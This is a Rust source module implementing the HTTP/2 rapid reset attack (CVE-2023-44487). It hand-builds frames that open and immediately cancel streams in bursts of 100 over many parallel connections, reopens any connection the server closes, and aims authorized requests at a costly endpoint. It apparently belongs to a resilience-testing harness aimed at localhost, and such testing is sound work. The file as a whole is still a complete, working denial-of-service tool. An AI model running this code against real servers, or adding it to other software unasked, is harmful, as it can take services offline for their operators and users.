//! HTTP/2 rapid reset (CVE-2023-44487): streams that are opened and reset at once, frame by frame.

use std::{
    sync::Arc,
    sync::atomic::{AtomicUsize, Ordering},
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    task::JoinSet,
    time::{sleep, timeout},
};

use super::Target;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const STREAMS_IN_A_BURST: u32 = 100;
const BURSTS_MAX: u32 = 200;
const BETWEEN_BURSTS: Duration = Duration::from_millis(5);

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const GOAWAY: u8 = 7;
const END_STREAM_AND_HEADERS: u8 = 0x5;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// What became of the streams.
#[derive(Debug, Default)]
pub struct Resets {
    pub connections: AtomicUsize,
    pub streams: AtomicUsize,
    /// Connections that the server ended, telling so.
    pub sent_away: AtomicUsize,
    /// Connections on which every burst went through.
    pub endured: AtomicUsize,
}

/// Attacks with so many connections at a time; one that is ended is opened again.
pub async fn reset(target: Target, connections: usize, told: Arc<Resets>) {
    let mut all = JoinSet::new();
    for _ in 0..connections {
        let (target, told) = (target.clone(), Arc::clone(&told));
        all.spawn(async move {
            while !target.is_over() {
                if let Ok(stream) = target.connect().await {
                    told.connections.fetch_add(1, Ordering::Relaxed);
                    one(&target, stream, &told).await;
                }
                sleep(BETWEEN_BURSTS * 20).await;
            }
        });
    }
    all.join_all().await;
}

async fn one(target: &Target, stream: TcpStream, told: &Resets) {
    let headers = headers(target);
    let (mut from, mut to) = stream.into_split();
    let reader = tokio::spawn(async move {
        let mut received = Vec::new();
        let _ = timeout(Duration::from_secs(5), from.read_to_end(&mut received)).await;
        has_frame(&received, GOAWAY)
    });
    let mut whole = to.write_all(PREFACE).await.is_ok();
    for number in 0..BURSTS_MAX {
        if !whole || target.is_over() || reader.is_finished() {
            break;
        }
        whole = to.write_all(&burst(number, &headers)).await.is_ok();
        told.streams.fetch_add(STREAMS_IN_A_BURST as usize, Ordering::Relaxed);
        sleep(BETWEEN_BURSTS).await;
        if number + 1 == BURSTS_MAX && whole && !reader.is_finished() {
            told.endured.fetch_add(1, Ordering::Relaxed);
        }
    }
    let _ = to.shutdown().await;
    if reader.await.unwrap_or(false) {
        told.sent_away.fetch_add(1, Ordering::Relaxed);
    }
}

/// Returns streams that are opened and reset again.
fn burst(number: u32, headers: &[u8]) -> Vec<u8> {
    let first = number * STREAMS_IN_A_BURST;
    let frames = (first..first + STREAMS_IN_A_BURST).flat_map(|index| {
        let stream = index * 2 + 1;
        let mut pair = frame(HEADERS, END_STREAM_AND_HEADERS, stream, headers);
        pair.extend(frame(RST_STREAM, 0, stream, &CANCEL));
        pair
    });
    frames.collect()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// Returns a header block (HPACK, nothing indexed anew) of a request that is worth the server's while.
fn headers(target: &Target) -> Vec<u8> {
    // :method GET, :scheme http
    let mut block = vec![0x82, 0x86];
    // :path by index 4, :authority by index 1, authorization by index 23
    literal(&mut block, &[0x04], &format!("/v1/{}/conversations:count", target.profile));
    literal(&mut block, &[0x01], "localhost");
    literal(&mut block, &[0x0f, 0x08], &target.authorization);
    block
}

fn literal(block: &mut Vec<u8>, name: &[u8], value: &str) {
    assert!(value.len() < 127, "a length of one byte");
    block.extend(name);
    block.push(u8::try_from(value.len()).unwrap());
    block.extend(value.as_bytes());
}

fn has_frame(mut received: &[u8], kind: u8) -> bool {
    while let Some(header) = received.get(..9) {
        if header[3] == kind {
            return true;
        }
        let length = u32::from_be_bytes([0, header[0], header[1], header[2]]) as usize;
        received = received.get(9 + length..).unwrap_or_default();
    }
    false
}
